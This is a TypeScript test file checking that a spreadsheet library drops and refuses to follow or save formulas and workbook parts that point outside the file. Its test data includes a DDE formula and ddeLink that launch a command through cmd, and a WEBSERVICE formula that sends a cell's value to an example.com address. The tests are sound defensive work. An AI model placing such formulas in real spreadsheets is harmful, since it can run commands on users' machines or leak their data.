import { openXlsx } from '#infra/local/workbook/xlsx/open.ts';
import { saveXlsx } from '#infra/local/workbook/xlsx/save.ts';
import { Zip } from '#infra/local/workbook/xlsx/read/zip.ts';
import { givenBook, standing } from '../given-book.ts';
import { givenFile, givenRows, relation, relations, workbook, worksheet } from './given-file.ts';

const outward = [
  `=cmd|' /C calc'!A0`,
  '=SUM([2]价目!$B$2:$B$9)',
  `='https://example.com/[a.xlsx]Sheet1'!A1`,
  '=WEBSERVICE("http://example.com/?"&A1)',
  '=HYPERLINK("http://example.com/"&A1,"点这里")',
];

const xml = (formula: string): string => formula.slice(1).replaceAll('&', '&amp;').replaceAll('<', '&lt;');

test('of such a formula in a file only the result is kept, and that is said', async () => {
  const rows = outward.map(
    (formula, row) => `<row r="${row + 1}"><c r="A${row + 1}"><f>${xml(formula)}</f><v>7</v></c></row>`,
  );
  const { model, dropped } = await openXlsx(givenRows(rows.join('')));
  const [sheet] = model.sheets;
  expect(sheet && standing(sheet, `A1:A${outward.length}`)).toEqual(outward.map(() => [7]));
  expect(dropped.map(({ en }) => en)).toEqual([expect.stringContaining('point at other files')]);
});

test('names, rules and parts that point out of the file are neither kept nor followed', async () => {
  const { model, dropped } = await openXlsx(
    givenFile({
      'xl/workbook.xml': workbook(
        `<sheets><sheet name="合同" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>
         <definedNames><definedName name="外">[1]Sheet1!$A$1</definedName><definedName name="内">合同!$A$1</definedName></definedNames>`,
      ),
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      'xl/worksheets/sheet1.xml': worksheet(
        `<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Sheet1!A1</formula></cfRule></conditionalFormatting>
         <dataValidations><dataValidation type="list" sqref="A1"><formula1>[1]Sheet1!A1:A3</formula1></dataValidation></dataValidations>`,
      ),
    }),
  );
  const [sheet] = model.sheets;
  expect(model.names.map(({ name }) => name)).toEqual(['内']);
  expect([sheet?.conditionals, sheet?.validations]).toEqual([[], []]);
  expect(dropped).toHaveLength(1);
});

test('a sheet that lies outside the file is not asked for', async () => {
  const outside = relation('rId1', 'worksheet', 'http://example.com/sheet1.xml', ' TargetMode="External"');
  const inside = relation('rId2', 'worksheet', 'worksheets/sheet1.xml');
  const { model } = await openXlsx(
    givenFile({
      'xl/workbook.xml': workbook('<sheets><sheet name="外" r:id="rId1"/><sheet name="内" r:id="rId2"/></sheets>'),
      'xl/_rels/workbook.xml.rels': relations(outside, inside),
    }),
  );
  expect(model.sheets.map(({ name }) => name)).toEqual(['内']);
});

test('such a formula typed here is not written into a file either', async () => {
  const { model } = givenBook(outward.map((formula) => [formula]));
  const zip = new Zip(await saveXlsx(model));
  const files = zip.names.map((name) => String(zip.content(name))).join('');
  expect(files).not.toContain('<f>');
  expect(zip.names.some((name) => name.includes('external'))).toBe(false);
});
